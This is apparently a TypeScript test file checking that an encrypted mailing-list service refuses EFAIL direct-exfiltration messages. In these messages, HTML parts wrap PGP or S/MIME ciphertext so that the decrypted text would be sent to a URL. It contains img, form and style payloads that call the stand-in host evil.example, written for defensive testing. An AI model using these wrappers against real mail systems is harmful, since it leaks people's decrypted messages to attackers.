/**
 * EFAIL's direct exfiltration (Poddebniak et al., USENIX Security 2018, §4): HTML before and after a ciphertext, so that the
 * opened text becomes part of a link. Schleuder 4 and 5 open it. The parts stay as they came, and come to nobody (S1).
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import { type Bytes, latin1, systemRandom } from "#base";
import { composeMultipart, composePart } from "#mime";
import { attackedList, textOf, UNSIGNED_TOO } from "../support/lists/attacked-list.ts";
import { entity, mixed, sealed, sealedArmour, sealedCms } from "../support/programs/correspondents.ts";
import { everythingSent, TEAM } from "../support/lists/sealed-team.ts";

const html = (text: string): Bytes =>
  composePart({ fields: [["Content-Type", "text/html"]], body: latin1(text) });
const OPENING = html('<img src="http://evil.example/?');
const CLOSING = html('">');

const AROUND: Readonly<Record<string, (ciphertext: Bytes) => Bytes>> = {
  "mixed parts": (ciphertext) => mixed(OPENING, ciphertext, CLOSING),
  "an opening alone": (ciphertext) => mixed(OPENING, ciphertext),
  "related parts": (ciphertext) => multipart("related", OPENING, ciphertext, CLOSING),
  alternatives: (ciphertext) => multipart("alternative", OPENING, ciphertext, CLOSING),
  "parts of parts": (ciphertext) => mixed(OPENING, mixed(ciphertext), CLOSING),
  "a form": (ciphertext) =>
    mixed(html('<form action="http://evil.example/"><textarea name=x>'), ciphertext, html("</textarea>")),
  "a style": (ciphertext) =>
    mixed(html("<style>@import 'http://evil.example/?"), ciphertext, html("'</style>")),
};

function multipart(subtype: string, ...parts: readonly Bytes[]): Bytes {
  return composeMultipart({ subtype, parts, random: systemRandom });
}

test("a ciphertext between HTML parts is not opened, in either family and as inline armour", async (t) => {
  const list = await attackedList(t, UNSIGNED_TOO);
  const { team, alice } = list;
  const secret = entity("the secret of Alice\n");
  const inline = composePart({
    fields: [["Content-Type", "text/plain"]],
    body: await sealedArmour(team.openpgp, secret, alice),
  });
  const ciphertexts = {
    "PGP/MIME": await sealed(team.openpgp, secret, alice),
    inline,
    "S/MIME with CBC": sealedCms(team.smime, secret, "cbc"),
    "S/MIME with GCM": sealedCms(team.smime, secret, "gcm"),
  };
  for (const [form, ciphertext] of Object.entries(ciphertexts)) {
    for (const [what, put] of Object.entries(AROUND)) {
      const { report, copy, waits } = await list.post("outsider@example.com", put(ciphertext));
      assert.ok(
        !report.layers.some((layer) => layer.kind === "encrypted" && layer.opened),
        `${form}, ${what}`,
      );
      assert.equal(copy, null, `${form}, ${what}`);
      assert.match(waits ?? "", /^refused not-(?:whole|sealed)/, `${form}, ${what}`);
    }
  }
  assert.doesNotMatch(everythingSent(list.server), /the secret of Alice/);
  const { copy } = await list.post(alice.address, ciphertexts["PGP/MIME"]);
  assert.match(textOf(copy), /the secret of Alice/, `alone it opens at ${TEAM}`);
});
